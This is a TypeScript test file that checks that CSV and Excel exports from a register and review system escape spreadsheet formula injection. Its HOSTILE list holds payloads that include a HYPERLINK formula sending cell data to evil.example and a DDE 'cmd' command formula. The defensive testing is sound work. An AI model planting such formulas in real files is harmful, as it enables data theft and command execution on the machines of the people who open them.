import ExcelJS from '@protobi/exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, expect, test } from 'vitest';
import { csvFile } from '#kernel/csv.ts';
import { testCtx, testSystem } from '#platform/testing/system.ts';
import { xlsxFile } from '#register/list-file.ts';
import { renderTables } from '#review/papers/render-tables.ts';
import { aSnapshot } from '#review/testing.ts';
import { annotatedWorkbook } from '#workbooks/annotating/annotated-workbook.ts';
import { aWorkbook } from '#workbooks/testing.ts';

const system = await testSystem();
const ctx = testCtx(system);
/** What a spreadsheet would run, or send to another host. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '=HYPERLINK("http://evil.example?"&A1)',
  "=cmd|' /C calc'!A0",
];

beforeAll(async () => {
  await import('./words.ts');
});

function formulas(bytes: Uint8Array): readonly string[] {
  return Object.entries(unzipSync(bytes))
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .flatMap(([, part]) => [...strFromU8(part).matchAll(/<f[^<>]*>([^<]*)<\/f>/g)].map(([, formula = '']) => formula));
}

test('V1.2.10 a comma separated file begins no cell with what a spreadsheet would run', () => {
  const [, ...lines] = new TextDecoder()
    .decode(csvFile([['Tên'], ...HOSTILE.map((text) => [text])]))
    .split(/\r\n(?=['"])/);

  expect(lines).toHaveLength(HOSTILE.length);
  for (const line of lines) expect(line).toMatch(/^"?'/);
  expect(new TextDecoder().decode(csvFile([[-5, '5']]))).toContain('-5,5');
});

test('V1.2.10 a list taken out as a workbook holds texts, not formulas', async () => {
  const bytes = await xlsxFile([['STT', 'Tên'], ...HOSTILE.map((text, at) => [at, text])], 'Sổ bộ');
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes.buffer as ArrayBuffer);

  expect(formulas(bytes)).toEqual([]);
  book.worksheets[0]?.eachRow((row, number) => {
    if (number > 1) expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
  });
});

test('V1.2.10 a template filled from the register has the formulas of an empty one and no other', async () => {
  const plain = await aWorkbook(ctx, { count: HOSTILE.length });
  const filled = await aWorkbook(ctx, {
    count: HOSTILE.length,
    change: (content) => ({
      ...content,
      register: content.register.map((row, at) => ({ ...row, name: HOSTILE[at] ?? row.name, note: HOSTILE[at] ?? '' })),
    }),
  });

  expect(formulas(filled).toSorted()).toEqual(formulas(plain).toSorted());
  expect(formulas(filled).join()).not.toMatch(/evil|cmd\|/);
});

test('V1.2.10 the workbook of errors says a hostile text in its messages as a text', async () => {
  const plain = await aWorkbook(ctx, { count: 2 });
  const messages = HOSTILE.map((text) => ({ code: 'x', severity: 'error' as const, sheet: text, cell: '', text }));

  const told = await annotatedWorkbook(plain, messages as unknown as Parameters<typeof annotatedWorkbook>[1]);

  expect(formulas(told).join()).not.toMatch(/evil|cmd\||^1\+1/);
});

test('V1.2.10 the tables of a review run the formulas that we wrote and no name of a unit', async () => {
  const file = aSnapshot();
  const [text = ''] = HOSTILE.slice(-2);
  const units = file.snapshot.units.map((unit) => ({ ...unit, provinceName: text, name: text }));

  const bytes = await renderTables({ ...file, snapshot: { ...file.snapshot, units } });

  expect(formulas(bytes).length).toBeGreaterThan(0);
  expect(formulas(bytes).filter((formula) => /evil|HYPERLINK\("http|cmd/.test(formula))).toEqual([]);
});
